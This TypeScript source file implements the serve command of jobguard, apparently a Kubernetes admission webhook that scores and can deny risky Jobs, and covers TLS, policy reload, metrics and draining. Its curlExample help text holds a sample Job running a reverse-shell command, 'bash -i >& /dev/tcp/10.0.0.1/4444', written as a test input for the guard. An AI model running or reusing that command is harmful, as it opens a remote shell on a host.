import { createServer, type Server } from 'node:http';
import { hostname } from 'node:os';
import { Server as NetServer } from 'node:net';
import type { Server as HttpsServer } from 'node:https';
import { pino, type Logger } from 'pino';
import type { FastifyInstance } from 'fastify';
import type { EventMode } from '../admission/event.js';
import { createEngine } from '../engine.js';
import type { Policy } from '../policy/schema.js';
import { expiredExemptions } from '../policy/decide.js';
import { resolvePolicy, type PolicyOverrides } from '../policy/load.js';
import { buildApp, DEFAULT_BODY_LIMIT, type AppDeps } from '../server/app.js';
import { createMetrics, recordExceptions, type Metrics } from '../server/metrics.js';
import {
  generateCertificate,
  readTlsFiles,
  watchTlsFiles,
  type TlsFiles,
  type TlsMaterial,
} from '../server/tls.js';
import {
  parseChoice,
  parseFlags,
  parseInteger,
  parseSize,
  UsageError,
  type CliIo,
  type Command,
} from './io.js';
import { configPath, overridesFromFlags, POLICY_FLAGS } from './flags.js';

const HELP = `Usage: jobguard serve [flags]

Runs the validating admission webhook: POST /validate, GET /healthz, GET /readyz, GET /metrics.
/readyz is false while draining after SIGTERM and, with cluster access, until namespace labels and
JobguardExceptions have synced (at most 10 s; then ready, saying which is unsynced).

Flags:
  --config FILE             policy file (YAML or JSON, apiVersion jobguard.dev/v1); reloaded when it changes
  --host H                  address to listen on (default 127.0.0.1; 0.0.0.0 in a pod)
  --port N                  HTTPS port (default 8443)
  --tls-cert-file F         serving certificate (PEM); reloaded when it changes
  --tls-key-file F          its private key (PEM); without both, a self-signed certificate is generated in memory
  --client-ca-file F        require client certificates signed by this CA (mTLS from kube-apiserver)
  --metrics-port N          also serve /metrics, /healthz and /readyz over plain HTTP on this port
  --profile P               scoring profile: default | kql (overrides the file)
  --mode M                  enforce | warn | audit | off (default warn; overrides the file)
  --annotate-threshold N    score at which audit annotations are added (default profile 2, kql 1)
  --warn-threshold N        score at which kubectl warnings are returned (default profile 4, kql 1)
  --deny-threshold N        score at which requests are denied in enforce mode (default profile 8, kql 3)
  --body-limit SIZE         largest request body, e.g. 8MiB (default 8MiB)
  --kubeconfig FILE         cluster for namespace labels and JobguardExceptions when not running in a pod
  --events MODE             Kubernetes Events in the object's namespace: off | deny | warn (deny and
                            warnings); needs cluster access; never for dry runs (default deny)
  --events-qps N            Events per second across all objects (default 5; more are dropped and counted)
  --events-burst N          Events at once (default 25)
  --shutdown-delay SECONDS  on SIGTERM, keep serving this long after /readyz turns false (default 0)
  --log-level L             fatal | error | warn | info | debug | trace (default info)
  -h, --help                show this help
`;

const FLAGS = {
  ...POLICY_FLAGS,
  host: { type: 'string', default: '127.0.0.1' },
  port: { type: 'string', default: '8443' },
  'tls-cert-file': { type: 'string' },
  'tls-key-file': { type: 'string' },
  'client-ca-file': { type: 'string' },
  'metrics-port': { type: 'string' },
  'body-limit': { type: 'string' },
  kubeconfig: { type: 'string' },
  events: { type: 'string', default: 'deny' },
  'events-qps': { type: 'string', default: '5' },
  'events-burst': { type: 'string', default: '25' },
  'shutdown-delay': { type: 'string', default: '0' },
  'log-level': { type: 'string', default: 'info' },
  help: { type: 'boolean', short: 'h' },
} as const;

export interface ServeOptions {
  configFile?: string;
  overrides: PolicyOverrides;
  host: string;
  port: number;
  tls?: TlsFiles;
  metricsPort?: number;
  bodyLimit: number;
  kubeconfig?: string;
  /** Kubernetes Events for answers (admission/event.ts); default off here, `deny` from the command line. */
  events?: { mode: EventMode; qps: number; burst: number };
  shutdownDelayMs: number;
  logger: Logger;
  env: NodeJS.ProcessEnv;
  /** How long /readyz waits for the first namespace-label sync before it reports ready anyway; default 10 s. */
  namespaceSyncGraceMs?: number;
}

export interface RunningServer {
  app: FastifyInstance;
  url: string;
  metrics: Metrics;
  /** Readiness goes false, in-flight requests finish, watchers stop. */
  close(): Promise<void>;
}

/**
 * Until namespace labels are synced every namespace looks unlabelled, so a namespace labelled
 * `enforce` would get the policy's own mode: /readyz stays false meanwhile (Service traffic goes to
 * pods that know the labels), but not for ever: an API server that cannot be reached must not keep
 * the webhook out of service. After this long it is ready without them, and says so.
 */
const NAMESPACE_SYNC_GRACE_MS = 10_000;

/** After SIGTERM (and --shutdown-delay), how long kept-alive sockets may carry one last reply before the rest are closed. */
const DRAIN_MS = 2_000;

/**
 * Stops accepting connections, then waits (up to `ms`) for open ones to close. http.Server's own
 * close() resets idle kept-alive sockets at once, racing a request the client is already sending
 * on one: the API server would see a reset. Meanwhile every reply says `Connection: close`
 * (AppDeps.draining), so busy sockets close after their next reply.
 */
async function drainConnections(server: NetServer, ms: number): Promise<void> {
  NetServer.prototype.close.call(server);
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    const open = await new Promise<number>((resolve) => {
      server.getConnections((error, count) => {
        resolve(error ? 0 : count);
      });
    });
    if (open === 0) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Sets the expired-exemptions gauge; at start also logs each one (the policy watcher logs them on reload). */
function reportExpired(logger: Logger | undefined, metrics: Metrics, policy: Policy): void {
  const expired = expiredExemptions(policy, new Date());
  metrics.exemptionsExpired.set(expired.length);
  for (const exemption of expired) {
    logger?.warn(
      { exemption: exemption.path, reason: exemption.reason, expires: exemption.expires },
      'exemption expired; it no longer applies',
    );
  }
}

/**
 * The JobguardException cache, when jobguard can reach a cluster (in a pod, or --kubeconfig);
 * its statuses feed the exception metrics.
 */
async function startExceptionCache(
  options: ServeOptions,
  policy: () => import('../policy/decide.js').CompiledPolicy,
  metrics: Metrics,
): Promise<import('../kube/exceptions.js').ExceptionCache | undefined> {
  if (!options.env.KUBERNETES_SERVICE_HOST && !options.kubeconfig) return undefined;
  const { loadKubeConfig } = await import('../kube/config.js');
  const kubeConfig = loadKubeConfig({
    env: options.kubeconfig ? { KUBECONFIG: options.kubeconfig } : options.env,
  });
  if (!kubeConfig) return undefined;
  const { watchExceptions } = await import('../kube/exceptions.js');
  return watchExceptions({
    kubeConfig,
    logger: options.logger,
    policy,
    onStatuses: (statuses) => {
      recordExceptions(metrics, statuses);
    },
  });
}

/** The Event sender and the hook that feeds it, when events are on and jobguard can reach a cluster. */
async function startEvents(
  options: ServeOptions,
  metrics: Metrics,
): Promise<{ onAnswer: NonNullable<AppDeps['onAnswer']>; stop(): Promise<void> } | undefined> {
  const settings = options.events;
  if (!settings || settings.mode === 'off') return undefined;
  if (!options.env.KUBERNETES_SERVICE_HOST && !options.kubeconfig) return undefined;
  const { loadKubeConfig } = await import('../kube/config.js');
  const kubeConfig = loadKubeConfig({
    env: options.kubeconfig ? { KUBECONFIG: options.kubeconfig } : options.env,
  });
  if (!kubeConfig) return undefined;
  const [{ createEventSender }, { eventFor }] = await Promise.all([
    import('../kube/events.js'),
    import('../admission/event.js'),
  ]);
  const sender = createEventSender({
    kubeConfig,
    logger: options.logger,
    qps: settings.qps,
    burst: settings.burst,
    onResult: (result) => {
      metrics.events.inc({ result });
    },
  });
  // The chart sets POD_NAME from the downward API: `reportingInstance` says which replica answered.
  const instance = options.env.POD_NAME ?? hostname();
  return {
    onAnswer({ request, decision, response, name }) {
      const event = eventFor(request, decision, response, {
        mode: settings.mode,
        instance,
        name,
        now: new Date(),
      });
      if (event) sender.send(event);
    },
    stop: () => sender.stop(),
  };
}

/** Starts the webhook with everything wired: policy (and its reload), TLS (and rotation), namespace labels, metrics. */
export async function startServer(options: ServeOptions): Promise<RunningServer> {
  const { logger } = options;
  const metrics = createMetrics();
  const policy = await resolvePolicy(options.configFile, options.overrides);
  let engine = createEngine(policy);
  metrics.policyReloads.inc({ result: 'success' });
  metrics.policyLastReloadSuccess.set(Date.now() / 1000);
  reportExpired(logger, metrics, policy);
  let policyError: string | undefined;

  let tls: TlsMaterial;
  if (options.tls) {
    tls = await readTlsFiles(options.tls);
  } else {
    tls = await generateCertificate([
      options.host === '0.0.0.0' ? 'localhost' : options.host,
      'localhost',
      '127.0.0.1',
    ]);
    logger.warn(
      'no --tls-cert-file/--tls-key-file: serving a self-signed certificate generated in memory (for local use only)',
    );
  }
  metrics.certificateExpiry.set(tls.notAfter.getTime() / 1000);

  let draining = false;
  let namespaceCache: import('../kube/namespaces.js').NamespaceLabels | undefined;
  if (policy.namespaceLabels.enabled) {
    const inCluster = Boolean(options.env.KUBERNETES_SERVICE_HOST);
    if (inCluster || options.kubeconfig) {
      const kube = await import('../kube/namespaces.js');
      const kubeConfig = kube.loadKubeConfig({
        env: options.kubeconfig ? { KUBECONFIG: options.kubeconfig } : options.env,
      });
      if (kubeConfig)
        namespaceCache = kube.watchNamespaceLabels({
          kubeConfig,
          logger,
        });
    }
    if (!namespaceCache) logger.info('no cluster access: namespace labels (jobguard.dev/mode) are not used');
  }

  let exceptionCache: import('../kube/exceptions.js').ExceptionCache | undefined;
  if (policy.exceptions.enabled) {
    exceptionCache = await startExceptionCache(options, () => engine.compiled, metrics);
    if (!exceptionCache) logger.info('no cluster access: JobguardExceptions are not read');
  }
  const exceptions = exceptionCache;
  const events = await startEvents(options, metrics);

  const cache = namespaceCache;
  let syncGraceOver = false;
  const syncGrace = setTimeout(() => {
    syncGraceOver = true;
    if (cache && !cache.isSynced()) {
      logger.warn(
        { error: cache.lastError() },
        'namespace labels not synced yet: ready anyway, with the policy modes only until they are',
      );
    }
    if (exceptions && !exceptions.isSynced()) {
      logger.warn(
        { error: exceptions.lastError() },
        "JobguardExceptions not synced yet: ready anyway, with the policy file's exemptions only until they are",
      );
    }
  }, options.namespaceSyncGraceMs ?? NAMESPACE_SYNC_GRACE_MS);
  syncGrace.unref();
  const syncState = (informer: { isSynced(): boolean } | undefined): 'synced' | 'syncing' | 'unsynced' => {
    if (!informer || informer.isSynced()) return 'synced';
    return syncGraceOver ? 'unsynced' : 'syncing';
  };
  const namespaceLabelsState = (): 'synced' | 'syncing' | 'unsynced' => syncState(cache);
  const app = buildApp({
    logger,
    engine: () => engine,
    ...(cache ? { namespaceLabels: (ns: string) => cache.get(ns) } : {}),
    ...(exceptions ? { exceptions: () => exceptions.exemptions() } : {}),
    ...(events ? { onAnswer: events.onAnswer } : {}),
    metrics,
    bodyLimit: options.bodyLimit,
    draining: () => draining,
    readiness: () => ({
      ready: !draining && namespaceLabelsState() !== 'syncing' && syncState(exceptions) !== 'syncing',
      detail: {
        draining,
        profile: engine.policy.profile,
        mode: engine.policy.mode,
        ...(policyError ? { policyError } : {}),
        ...(namespaceCache
          ? { namespaceLabels: namespaceLabelsState(), namespaceError: namespaceCache.lastError() }
          : {}),
        ...(exceptions ? { exceptions: syncState(exceptions), exceptionsError: exceptions.lastError() } : {}),
        certificateNotAfter: tls.notAfter.toISOString(),
      },
    }),
    https: {
      key: tls.key,
      cert: tls.cert,
      ...(tls.ca ? { ca: tls.ca, requestCert: true, rejectUnauthorized: true } : {}),
    },
  });

  const closers: (() => Promise<void> | void)[] = [];
  if (options.configFile) {
    const { watchPolicyFile } = await import('../policy/watch.js');
    const watcher = watchPolicyFile({
      file: options.configFile,
      overrides: options.overrides,
      logger: logger.child({ component: 'policy' }),
      onPolicy(next) {
        const nextEngine = createEngine(next);
        engine = nextEngine;
        policyError = undefined;
        metrics.policyReloads.inc({ result: 'success' });
        metrics.policyLastReloadSuccess.set(Date.now() / 1000);
        reportExpired(undefined, metrics, next);
        exceptions?.refresh();
      },
      onError(error) {
        policyError = error.message;
        metrics.policyReloads.inc({ result: 'failure' });
      },
    });
    closers.push(() => watcher.close());
  }
  if (options.tls) {
    const tlsFiles = options.tls;
    const watcher = watchTlsFiles(tlsFiles, tls, {
      onChange(material) {
        (app.server as unknown as HttpsServer).setSecureContext({
          key: material.key,
          cert: material.cert,
          ...(material.ca ? { ca: material.ca } : {}),
        });
        tls = material;
        metrics.certificateExpiry.set(material.notAfter.getTime() / 1000);
        logger.info({ notAfter: material.notAfter.toISOString() }, 'TLS certificate reloaded');
      },
      onError(error) {
        logger.warn(
          { error: error.message },
          'TLS files changed but could not be loaded; keeping the current certificate',
        );
      },
    });
    closers.push(() => {
      watcher.close();
    });
  }
  if (namespaceCache) closers.push(() => namespaceCache.stop());
  if (exceptions) closers.push(() => exceptions.stop());
  if (events) closers.push(() => events.stop());
  closers.push(() => {
    clearTimeout(syncGrace);
  });

  await app.listen({ host: options.host, port: options.port });
  const address = app.server.address();
  const port = typeof address === 'object' && address ? address.port : options.port;
  const host = options.host.includes(':') ? `[${options.host}]` : options.host;
  const url = `https://${host}:${port}`;

  let metricsServer: Server | undefined;
  if (options.metricsPort !== undefined) {
    // Plain HTTP for Prometheus and for kubelet probes, which present no client certificate under mTLS.
    metricsServer = createServer((req, res) => {
      const path = req.method === 'GET' ? req.url?.split('?')[0] : undefined;
      if (path === '/metrics') {
        metrics.registry.metrics().then(
          (text) => res.writeHead(200, { 'content-type': metrics.registry.contentType }).end(text),
          () => res.writeHead(500).end(),
        );
      } else if (path === '/healthz') {
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
      } else if (path === '/readyz') {
        res
          .writeHead(draining ? 503 : 200, { 'content-type': 'application/json' })
          .end(JSON.stringify({ ready: !draining }));
      } else res.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"not-found"}');
    });
    const server = metricsServer;
    await new Promise<void>((resolve) => server.listen(options.metricsPort, options.host, resolve));
  }

  logger.info(
    {
      url,
      profile: engine.policy.profile,
      mode: engine.policy.mode,
      certificate: tls.source,
      kinds: engine.policy.kinds,
    },
    'jobguard is serving',
  );

  let closing: Promise<void> | undefined;
  return {
    app,
    url,
    metrics,
    close() {
      closing ??= (async () => {
        draining = true;
        if (options.shutdownDelayMs > 0)
          await new Promise((resolve) => setTimeout(resolve, options.shutdownDelayMs));
        await drainConnections(app.server, DRAIN_MS);
        await app.close();
        const plain = metricsServer;
        if (plain)
          await new Promise<void>((resolve) => {
            plain.close(() => {
              resolve();
            });
          });
        for (const close of closers) await close();
      })();
      return closing;
    },
  };
}

function curlExample(url: string): string {
  return [
    '',
    `jobguard is listening on ${url} (self-signed certificate: use curl -k). Try:`,
    '',
    `  curl -sk ${url}/validate -H 'Content-Type: application/json' -d '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","kind":{"group":"batch","version":"v1","kind":"Job"},"resource":{"group":"batch","version":"v1","resource":"jobs"},"namespace":"default","operation":"CREATE","userInfo":{"username":"me"},"object":{"apiVersion":"batch/v1","kind":"Job","metadata":{"name":"x"},"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"alpine","command":["sh","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}]}}}}}}'`,
    '',
  ].join('\n');
}

export const serve: Command = async (argv: string[], io: CliIo): Promise<number> => {
  const { values } = parseFlags(argv, FLAGS);
  if (values.help) {
    io.stdout.write(HELP);
    return 0;
  }
  const certFile = values['tls-cert-file'];
  const keyFile = values['tls-key-file'];
  if ((certFile === undefined) !== (keyFile === undefined))
    throw new UsageError('--tls-cert-file and --tls-key-file go together');
  const clientCa = values['client-ca-file'];
  const logLevel =
    parseChoice('log-level', values['log-level'], [
      'fatal',
      'error',
      'warn',
      'info',
      'debug',
      'trace',
    ] as const) ?? 'info';
  const logger = pino({ level: logLevel, base: { service: 'jobguard' } }, io.stdout);
  const metricsPort = parseInteger('metrics-port', values['metrics-port'], 1, 65535);
  const options: ServeOptions = {
    overrides: overridesFromFlags(values),
    host: values.host,
    port: parseInteger('port', values.port, 0, 65535) ?? 8443,
    bodyLimit: parseSize('body-limit', values['body-limit']) ?? DEFAULT_BODY_LIMIT,
    shutdownDelayMs: (parseInteger('shutdown-delay', values['shutdown-delay'], 0, 600) ?? 0) * 1000,
    logger,
    env: io.env,
    ...(values.config === undefined ? {} : { configFile: configPath(values, io) }),
    ...(certFile && keyFile ? { tls: { certFile, keyFile, ...(clientCa ? { caFile: clientCa } : {}) } } : {}),
    ...(metricsPort === undefined ? {} : { metricsPort }),
    ...(values.kubeconfig === undefined ? {} : { kubeconfig: values.kubeconfig }),
    events: {
      mode: parseChoice('events', values.events, ['off', 'deny', 'warn'] as const) ?? 'deny',
      qps: parseInteger('events-qps', values['events-qps'], 1, 1000) ?? 5,
      burst: parseInteger('events-burst', values['events-burst'], 1, 10_000) ?? 25,
    },
  };
  if (clientCa && !options.tls)
    throw new UsageError('--client-ca-file needs --tls-cert-file and --tls-key-file');
  let server: RunningServer;
  try {
    server = await startServer(options);
  } catch (error) {
    if (
      error instanceof Error &&
      (error.name === 'TlsError' || (error as NodeJS.ErrnoException).code === 'EADDRINUSE')
    ) {
      throw new UsageError(error.message);
    }
    throw error;
  }
  if (!options.tls) io.stderr.write(curlExample(server.url));
  await new Promise<void>((resolve) => {
    const stop = (signal: NodeJS.Signals): void => {
      logger.info({ signal }, 'shutting down: readiness is false, finishing in-flight requests');
      process.off('SIGTERM', stop);
      process.off('SIGINT', stop);
      void server.close().then(resolve);
    };
    process.on('SIGTERM', stop);
    process.on('SIGINT', stop);
  });
  logger.info('stopped');
  return 0;
};
